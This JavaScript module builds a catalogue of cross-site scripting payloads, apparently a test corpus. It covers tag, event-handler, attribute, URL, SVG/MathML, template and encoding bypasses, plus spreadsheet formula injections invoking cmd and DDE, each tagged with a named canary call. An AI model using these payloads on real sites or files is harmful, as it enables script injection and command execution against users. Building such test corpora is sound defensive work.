// Texts that would run as script where a page takes them for more than text, by what they try to break out of.
// `RUN` stands for a call that tells on the payload; each gets its own, so that the one that ran is known by name.

const BS = "\\";

/** Tags that run by themselves, in forms that filters forget. */
const tags = [
  "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<ScRiPt>RUN</sCrIpT>", "<script >RUN</script >", "<script\t>RUN</script\t>",
  "<script/x>RUN</script>", "<script\n>RUN</script\n>", "<script src=data:text/javascript,RUN></script>", "<script type=module>RUN</script>",
  "<script>/*<!--*/RUN//--></script>", "<<script>RUN//<</script>", "<scr<script>ipt>RUN</scr</script>ipt>", "<script>RUN", "</script><script>RUN</script>",
  "<script defer>RUN</script>", "<script async src=//127.0.0.1/RUN.js></script>", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
  "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN /></svg>", "<svg><script>RUN&#40;&#41;</script></svg>", "<math><script>RUN</script></math>",
  "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<iframe src=javascript:parent.RUN></iframe>", "<frame src=javascript:RUN>", "<frameset onload=RUN>",
  "<object data=javascript:RUN></object>", "<object data='data:text/html,<script>RUN</script>'></object>", "<embed src=javascript:RUN>", "<embed src='data:image/svg+xml,<svg onload=RUN>'>",
  "<applet code=RUN></applet>", "<base href=javascript:RUN//>", "<base href=//127.0.0.1:1/RUN/>", "<link rel=stylesheet href=javascript:RUN>", "<link rel=import href=data:text/html,RUN>",
  "<link rel=preload as=script href=/x onload=RUN>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
  "<meta http-equiv=set-cookie content='convizit_console=RUN'>", "<style>@import 'javascript:RUN'</style>", "<style>*{background:url(javascript:RUN)}</style>",
  "<style>body{-moz-binding:url(x#RUN)}</style>", "<template><script>RUN</script></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>",
  "<xml><script>RUN</script></xml>", "<xss onclick=RUN tabindex=1 autofocus onfocus=RUN>x</xss>", "<portal src=javascript:RUN>", "<isindex action=javascript:RUN type=submit>",
  "<form action=javascript:RUN><input type=submit></form>", "<form><button formaction=javascript:RUN>x</button></form>", "<form id=f></form><button form=f formaction=javascript:RUN>x</button>",
  "<plaintext><script>RUN</script>", "<listing>&lt;script>RUN</script></listing>", "<xmp><script>RUN</script></xmp>",
];

/** Handlers that need nobody, and such that a pointer or a key sets off, in the elements that they work in. */
const handlers = [
  ["img src=x", "onerror"], ["image src=x", "onerror"], ["img src=/static/icon.svg", "onload"], ["svg", "onload"], ["svg", "onbegin"], ["body", "onload"], ["body", "onpageshow"], ["body", "onhashchange"],
  ["body", "onresize"], ["body", "onscroll"], ["body", "onmessage"], ["video src=x", "onerror"], ["video", "onloadstart"], ["video poster=x", "onerror"], ["audio src=x", "onerror"], ["audio", "oncanplay"],
  ["video><source src=x", "onerror"], ["picture><img src=x", "onerror"], ["iframe", "onload"], ["frame", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"], ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"], ["style", "onload"], ["input autofocus", "onfocus"], ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"], ["a href=x autofocus", "onfocus"],
  ["details open", "ontoggle"], ["dialog open", "ontoggle"], ["div popover", "onbeforetoggle"], ["marquee", "onstart"], ["marquee loop=1", "onfinish"], ["keygen autofocus", "onfocus"], ["div style=animation-name:x", "onanimationstart"],
  ["div style=transition:all", "ontransitionend"], ["div", "onclick"], ["div", "onmouseover"], ["div", "onpointerenter"], ["div", "onpointerrawupdate"], ["div", "onauxclick"], ["div", "oncontextmenu"], ["div", "ondblclick"],
  ["div draggable=true", "ondragstart"], ["div contenteditable", "onbeforeinput"], ["div contenteditable", "onblur"], ["input", "oninput"], ["input", "onchange"], ["input", "oninvalid"], ["form", "onsubmit"], ["form", "onreset"],
  ["div", "oncopy"], ["div", "oncut"], ["div", "onpaste"], ["div", "onwheel"], ["div", "ontouchstart"], ["div", "onkeydown"], ["track src=x", "onerror"], ["meter", "onmouseover"], ["div", "onscrollend"], ["div", "onsecuritypolicyviolation"],
  ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set attributeName=x", "onbegin"], ["svg><image href=x", "onerror"], ["svg><a xlink:href=x", "onclick"], ["svg><use href=x", "onerror"], ["math", "onclick"], ["bgsound src=x", "onpropertychange"],
].flatMap(([tag, handler]) => [`<${tag} ${handler}=RUN>`, `<${tag} ${handler.toUpperCase()}='RUN'/>`]);

/** Out of an attribute's value, quoted in each way or not at all. */
const attributes = [
  `"><script>RUN</script>`, `'><script>RUN</script>`, `><script>RUN</script>`, `"/><svg onload=RUN>`, `' onmouseover=RUN x='`, `" onmouseover=RUN x="`, `" autofocus onfocus=RUN x="`, `' autofocus onfocus='RUN`,
  "` onmouseover=RUN x=`", ` onmouseover=RUN x=`, `x onerror=RUN`, `" style="background:url(javascript:RUN)`, `" href="javascript:RUN`, `" src=x onerror="RUN`, `"><img src=x onerror=RUN>`, `'><img src=x onerror=RUN>`,
  `&quot;><img src=x onerror=RUN>`, `&#34;><img src=x onerror=RUN>`, `&#x22;&#x3e;<img src=x onerror=RUN>`, `${BS}"><img src=x onerror=RUN>`, `${BS}'><img src=x onerror=RUN>`, `%22%3E%3Cscript%3ERUN%3C/script%3E`,
  `%2522%253E%253Cscript%253ERUN`, `"${"\t"}onclick="RUN`, `"${"\n"}onclick="RUN`, `"${"\f"}onclick="RUN`, `"/onclick="RUN`, `" data-refresh="javascript:RUN`, `" data-copy="RUN`, `"${"\u00a0"}onclick=RUN x="`, `' accesskey='x' onclick='RUN`,
  `" http-equiv="refresh" content="0;url=javascript:RUN`, `" formaction="javascript:RUN`, `" ping="javascript:RUN`, `" srcdoc="<script>RUN</script>`, `" tabindex=1 onfocusin="RUN`, `"]]><script>RUN</script>`,
];

/** Addresses that are script. */
const addresses = [
  "javascript:RUN", "JaVaScRiPt:RUN", "javascript:RUN//", "javascript://%0aRUN", "javascript://x.example/%0aRUN", " javascript:RUN", "\tjavascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\rscript:RUN", "\u0001javascript:RUN",
  "javascript&colon;RUN", "javascript&#58;RUN", "javascript&#x3a;RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN", "javascript%3aRUN", "javascript:void(RUN)", "javascript:/*--></title></style></textarea></script><svg onload=RUN>*/",
  "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD4=RUN", "data:image/svg+xml,<svg onload=RUN>", "vbscript:RUN", "livescript:RUN", "mocha:RUN", "feed:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN!/",
  "//127.0.0.1/RUN", "/\\127.0.0.1/RUN", "blob:RUN", "filesystem:javascript:RUN", "\u2028javascript:RUN", "\u00a0javascript:RUN", "\ufeffjavascript:RUN", "<a href=javascript:RUN>x</a>", "<a href='java&#10;script:RUN'>x</a>", "<a href=\"&#14;javascript:RUN\">x</a>",
  "[x](javascript:RUN)", "![x](x\"onerror=\"RUN)", "[x](javascript&#58;RUN)", "<javascript:RUN>", "[x]: javascript:RUN",
];

/** Drawings and formulas are other languages inside the page. */
const drawings = [
  "<svg/onload=RUN>", "<svg onload=RUN//", "<svg><g/onload=RUN></g></svg>", "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>", "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'/></svg>", "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>", "<svg><style>@import url(javascript:RUN)</style></svg>", "<svg><desc><img src=x onerror=RUN></desc></svg>",
  "<svg><title><img src=x onerror=RUN></title></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">", "<svg><set attributeName=onmouseover to=RUN></svg>", "<svg><animate onrepeat=RUN attributeName=x dur=1s repeatCount=2 /></svg>",
  "<svg xmlns=http://www.w3.org/2000/svg onload=RUN>", "<svg><handler type=text/javascript ev:event=load>RUN</handler></svg>", "<svg><filter><feImage href=javascript:RUN /></filter></svg>", "<svg><image href='data:image/svg+xml,<svg onload=RUN>'/></svg>",
  "<math href=javascript:RUN>x</math>", "<math><maction actiontype=statusline#x xlink:href=javascript:RUN>x</maction></math>", "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
  "<math><mi//xlink:href='data:x,<script>RUN</script>'>", "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>", "<svg><p><style><!--</style><img src=x onerror=RUN>--></style>", "M0 0\"/><script>RUN</script>", "0 0 1 1\" onload=\"RUN",
];

/** What templates of many makes would evaluate. */
const templates = [
  "{{RUN}}", "{{{RUN}}}", "{{constructor.constructor('RUN')()}}", "{{$on.constructor('RUN')()}}", "{{[].pop.constructor('RUN')()}}", "{{_openBlock.constructor('RUN')()}}", "{%RUN%}", "{% raw %}{{RUN}}{% endraw %}", "{% include 'RUN' %}", "{# RUN #}",
  "{{ self.RUN }}", "{{ chrome.token|safe }} RUN", "{% call m::token(RUN) %}{% endcall %}", "${RUN}", "#{RUN}", "*{RUN}", "@{RUN}", "~{RUN}", "<%= RUN %>", "<% RUN %>", "<%- RUN %>", "<? RUN ?>", "<?php RUN ?>", "<?= RUN ?>", "[[RUN]]", "[[${RUN}]]",
  "{RUN}", "{{=<% %>=}}<% RUN %>", "{{#with RUN}}{{/with}}", "{{> RUN}}", "{!RUN!}", "{!! RUN !!}", "@(RUN)", "@{RUN;}", "$RUN", "$!{RUN}", "#set($x=RUN)", "#evaluate('RUN')", "<#assign x=RUN>", "<@RUN/>", "${{RUN}}", "%{RUN}", "{@html RUN}",
  "<div ng-app ng-csp>{{RUN}}</div>", "<div v-html=RUN></div>", "<div v-on:click=RUN>x</div>", "<div @click=RUN>x</div>", "<div x-data x-init=RUN></div>", "<div hx-get=/ hx-trigger=load hx-on::load=RUN></div>", "<div hx-vals='js:{x:RUN}'></div>", "<div data-bind='text:RUN'></div>",
  "<div _='on load RUN'></div>", "`${RUN}`", "'+RUN+'", "\"+RUN+\"", "';RUN;//", "\";RUN;//", "`;RUN;//", "');RUN;//", "\");RUN;//", "'-RUN-'", "\"-RUN-\"", "\\';RUN;//", "\\\";RUN;//", "*/RUN/*", "\nRUN\n", "//\nRUN", "-->\nRUN", "<!--\nRUN", "\u2028RUN\u2028", "\u2029RUN",
];

/** Cells that a spreadsheet would reckon with. */
const formulas = [
  "=RUN", "+RUN", "-RUN", "@RUN", "\tRUN", "\r=RUN", "\n=RUN", "=HYPERLINK(\"javascript:RUN\",\"x\")", "=IMPORTXML(\"http://127.0.0.1\",\"RUN\")", "=WEBSERVICE(\"RUN\")", "=cmd|'RUN'!A", "+cmd|'RUN'!A", "-cmd|'RUN'!A", "@SUM(cmd|'RUN'!A)",
  "=DDE(\"cmd\";\"RUN\")", "\"=RUN", "'=RUN", "\";=RUN", "\",=RUN", ";=RUN", ",=RUN", "=\"RUN\"", "%0A=RUN", "=RUN\",\"x", "x\n=RUN", "\u00a0=RUN", "\uff1dRUN", "{=RUN}", "=1+RUN*cmd|'x'!A", "=rundll|'RUN'!A",
];

/** Signs that look like others, or that some step turns into others. */
const signs = [
  "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u2039script\u203aRUN", "\u003cscript\u003eRUN\u003c/script\u003e", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN", "\\74script\\76RUN", "&lt;script&gt;RUN&lt;/script&gt;", "&amp;lt;script&amp;gt;RUN",
  "&#60;script&#62;RUN", "&#x3C;script&#x3E;RUN", "&#0000060script&#0000062RUN", "&#60script&#62RUN", "&LT;script&GT;RUN", "&ltscript&gtRUN", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN", "%u003Cscript%u003ERUN", "%c0%bcscript%c0%beRUN", "+ADw-script+AD4-RUN",
  "<\u0000script>RUN</script>", "<scr\u0000ipt>RUN</scr\u0000ipt>", "<img\u0000src=x onerror=RUN>", "<s\u0131cript>RUN", "<\u017fcript>RUN</\u017fcript>", "<\u200bscript>RUN</script>", "<script\u200b>RUN</script>", "<img src=x on\u200berror=RUN>", "\u202e<script>RUN</script>", "\u202d<img src=x onerror=RUN>",
  "\u2066<script>RUN</script>\u2069", "\ufeff<script>RUN</script>", "\u0301<script>RUN</script>", "<script>RUN</script>\u0338", "\ud83d\ude00<img src=x onerror=RUN>", "\ufffd<script>RUN</script>", "<img src=x onerror\u00a0=RUN>", "<img\u000bsrc=x\u000bonerror=RUN>", "<img\u000csrc=x\u000conerror=RUN>", "<img/src=x/onerror=RUN>",
  "<img src=x onerror=\u0026#114;RUN>", "<img src=x onerror=eval(atob('x'));RUN>", "<img src=x:x onerror=RUN>", "<img src=x onerror=\"RUN\"", "<img src=x onerror='RUN'", "<img src=x onerror=`RUN`>", "<img \"\"\"><script>RUN</script>\">", "<img src='x\u0000' onerror=RUN>", "<!--><img src=x onerror=RUN>", "<!---><img src=x onerror=RUN>-->",
  "<![CDATA[<script>RUN</script>]]>", "<!DOCTYPE x [<!ENTITY y 'RUN'>]>", "<?xml-stylesheet href=javascript:RUN?>", "<!--#exec cmd=RUN-->", "<!--[if gte IE 4]><script>RUN</script><![endif]-->", "<a\u2028href=javascript:RUN>x</a>", "\u1680<script>RUN</script>", "<script\u3000>RUN</script>", "\u00adjavascript:RUN",
];

/** Out of places where a text ends by another sign than `<`. */
const contexts = [
  "</title><script>RUN</script>", "</title><img src=x onerror=RUN>", "</TITLE ><svg onload=RUN>", "</textarea><script>RUN</script>", "</textarea><img src=x onerror=RUN>", "</style><script>RUN</script>", "</style><img src=x onerror=RUN>", "</script><script>RUN</script>", "</script ><img src=x onerror=RUN>",
  "</SCRIPT\t><svg onload=RUN>", "</noscript><img src=x onerror=RUN>", "</select><img src=x onerror=RUN>", "</datalist><img src=x onerror=RUN>", "</button></form><form action=javascript:RUN><button>", "</a><a href=javascript:RUN>x", "</h1><img src=x onerror=RUN>", "</dl></section><svg onload=RUN>", "</label><script>RUN</script>", "</option></select><script>RUN</script>", "</iframe><img src=x onerror=RUN>", "</xmp><img src=x onerror=RUN>", "</template><img src=x onerror=RUN>", "</svg><img src=x onerror=RUN>", "</math><img src=x onerror=RUN>",
  "</noembed><img src=x onerror=RUN>", "</noframes><img src=x onerror=RUN>", "</table><img src=x onerror=RUN>", "</td></tr></table><script>RUN</script>", "</code></pre><script>RUN</script>", "</main></body></html><script>RUN</script>", "--><script>RUN</script>", "--!><img src=x onerror=RUN>", "]]><img src=x onerror=RUN>",
  "*/</style><img src=x onerror=RUN>", "\"}</script><script>RUN</script>", "\"}]};RUN;//", "\"},\"x\":RUN,\"y\":{\"z\":\"", "\\\"};RUN;//", "'};RUN;//", "</script><!--RUN", "<!--<script><!--RUN", "<!--<script>RUN</script>", "{\"x\":\"</script><img src=x onerror=RUN>\"}", "{\"__proto__\":{\"x\":\"RUN\"}}", "__proto__[RUN]", "constructor.prototype.RUN",
  "x;background:url(javascript:RUN)", "x}body{background:url(javascript:RUN)", "expression(RUN)", "url('javascript:RUN')", "x\\3c/style>\\3cscript>RUN", "\r\nSet-Cookie: convizit_console=RUN", "\r\nLocation: javascript:RUN", "x\r\n\r\n<script>RUN</script>", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>RUN</script>", "\u0085<script>RUN</script>",
];

/** A word of letters alone for each number: names are made from texts without their digits. */
export const word = (number) => `q${[...number.toString(26).padStart(3, "0")].map((sign) => "abcdefghijklmnopqrstuvwxyz"[Number.parseInt(sign, 26)]).join("")}q`;

/** All of them: the text, and the function whose call tells on it. */
export const payloads = Object.entries({ tags, handlers, attributes, addresses, drawings, templates, formulas, signs, contexts })
  .flatMap(([kind, texts]) => [...new Set(texts)].map((text) => ({ kind, text })))
  .map(({ kind, text }, number) => ({ kind, word: word(number), text: text.replaceAll("RUN", `${word(number)}()`) }));
